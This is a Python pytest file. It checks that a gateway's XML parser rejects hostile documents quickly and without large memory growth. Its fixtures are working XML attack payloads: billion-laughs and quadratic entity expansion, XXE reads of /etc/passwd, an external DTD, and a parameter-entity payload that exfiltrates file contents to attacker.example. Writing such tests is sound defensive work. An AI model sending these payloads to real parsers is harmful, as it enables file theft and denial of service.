"""Hostile XML against the one parse path, gateway.xml.parse_xml: each document is refused
with XmlRejected, quickly (generous bound: 2 s) and without a large memory peak."""

from __future__ import annotations

import resource
import time
from collections.abc import Callable

import pytest

from gateway.errors import Origin, XmlRejected
from gateway.xml import DEFAULT_LIMITS, ParseLimits, parse_xml

TIME_BOUND_S = 2.0
MEMORY_BOUND_KIB = 200 * 1024  # peak RSS growth allowed while refusing one document


def billion_laughs() -> bytes:
    lines = ['<?xml version="1.0"?>', "<!DOCTYPE lolz [", '<!ENTITY lol0 "lol">']
    for i in range(1, 10):
        prev = f"&lol{i - 1};"
        lines.append(f'<!ENTITY lol{i} "{prev * 10}">')
    lines += ["]>", "<lolz>&lol9;</lolz>"]
    return "\n".join(lines).encode()


def quadratic_blowup() -> bytes:
    entity = "A" * 200_000
    return (
        f'<?xml version="1.0"?><!DOCTYPE kaboom [<!ENTITY a "{entity}">]>'
        f"<kaboom>{'&a;' * 20_000}</kaboom>"
    ).encode()


def external_entity() -> bytes:
    return (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>'
    )


def external_dtd() -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>'


def parameter_entities() -> bytes:
    return (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % file SYSTEM "file:///etc/passwd">'
        b"<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://attacker.example/?%file;'>\">"
        b"%eval; %exfil;]><r/>"
    )


def lower_case_doctype_after_comment() -> bytes:
    return b'<?xml version="1.0"?><!-- hi --><!doctype r [<!ENTITY e "x">]><r>&e;</r>'


def utf16_billion_laughs() -> bytes:
    text = (
        billion_laughs()
        .decode()
        .replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
    )
    return text.encode("utf-16")  # with BOM


def utf16_external_entity_without_bom() -> bytes:
    text = (
        '<?xml version="1.0" encoding="UTF-16LE"?>'
        '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>'
    )
    return text.encode("utf-16-le")


def utf32_external_entity() -> bytes:
    text = (
        '<?xml version="1.0" encoding="UTF-32"?>'
        '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>'
    )
    return text.encode("utf-32")


def deep_nesting() -> bytes:
    depth = 100_000
    return b"<a>" * depth + b"</a>" * depth


def just_over_depth_cap() -> bytes:
    depth = DEFAULT_LIMITS.max_depth + 1
    return b"<a>" * depth + b"</a>" * depth


def oversized() -> bytes:
    filler = b"<x>" + b"A" * (DEFAULT_LIMITS.max_bytes + 1) + b"</x>"
    return b"<r>" + filler + b"</r>"


def not_well_formed() -> bytes:
    return b"<r><unclosed></r>"


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "billion-laughs": (billion_laughs, "DTD"),
    "quadratic-blowup": (quadratic_blowup, "DTD"),
    "external-entity-etc-passwd": (external_entity, "DTD"),
    "external-dtd": (external_dtd, "DTD"),
    "parameter-entities": (parameter_entities, "DTD"),
    "lower-case-doctype-after-comment": (lower_case_doctype_after_comment, "DTD"),
    "utf16-billion-laughs": (utf16_billion_laughs, "DTD"),
    "utf16le-external-entity-no-bom": (utf16_external_entity_without_bom, "DTD"),
    "utf32-external-entity": (utf32_external_entity, "DTD"),
    "deep-nesting-100000": (deep_nesting, ""),
    "just-over-depth-cap": (just_over_depth_cap, "deeper than"),
    "oversized-input": (oversized, "over the limit"),
    "not-well-formed": (not_well_formed, "not well-formed"),
}


def peak_rss_kib() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss


@pytest.mark.parametrize("scenario", sorted(HOSTILE))
def test_hostile_document_is_refused_fast_and_small(scenario: str) -> None:
    build, reason = HOSTILE[scenario]
    data = build()
    before = peak_rss_kib()
    started = time.monotonic()
    with pytest.raises(XmlRejected) as caught:
        parse_xml(data)
    elapsed = time.monotonic() - started
    assert elapsed < TIME_BOUND_S, f"{scenario} took {elapsed:.2f}s"
    assert peak_rss_kib() - before < MEMORY_BOUND_KIB
    assert reason in caught.value.message
    assert caught.value.is_remote and caught.value.code == "GW:XML-REJECTED"


def test_no_file_content_leaks_into_any_result() -> None:
    for build, _ in HOSTILE.values():
        try:
            root = parse_xml(build())
        except XmlRejected:
            continue
        pytest.fail(f"accepted: {root!r}")


def test_depth_cap_boundary_and_local_origin() -> None:
    depth = DEFAULT_LIMITS.max_depth
    assert parse_xml(b"<a>" * depth + b"</a>" * depth).tag == "a"
    with pytest.raises(XmlRejected) as caught:
        parse_xml(b"<a/>" * 2, origin=Origin.LOCAL)
    assert not caught.value.is_remote


def test_custom_size_limit_is_applied_before_parsing() -> None:
    with pytest.raises(XmlRejected, match="over the limit of 10"):
        parse_xml(b"<r>" + b" " * 20 + b"</r>", limits=ParseLimits(max_bytes=10))


def test_ordinary_utf16_document_is_accepted() -> None:
    root = parse_xml('<?xml version="1.0" encoding="UTF-16"?><r>grüße</r>'.encode("utf-16"))
    assert root.text == "grüße"


@pytest.mark.parametrize("cap", [8, 16, 17, 40, DEFAULT_LIMITS.max_depth])
def test_depth_cap_holds_on_both_sides_of_the_short_probe(cap: int) -> None:
    """parse_xml probes a shallow depth first and the cap only for deeper documents."""
    limits = ParseLimits(max_depth=cap)
    for depth in sorted({cap - 1, cap, 15, 16, 17} - {0}):
        if depth <= cap:
            assert parse_xml(b"<a>" * depth + b"</a>" * depth, limits=limits).tag == "a"
    too_deep = cap + 1
    with pytest.raises(XmlRejected, match=f"deeper than {cap} levels"):
        parse_xml(b"<a>" * too_deep + b"</a>" * too_deep, limits=limits)


def test_dtd_in_utf16le_without_bom_is_refused_though_it_starts_with_lt() -> None:
    """The one-byte fast path of the encoding sniffing must not take UTF-16LE for ASCII."""
    text = '<!DOCTYPE r [<!ENTITY e "x">]><r>&e;</r>'.encode("utf-16-le")
    assert text[:1] == b"<"
    with pytest.raises(XmlRejected, match="DTD"):
        parse_xml(text)
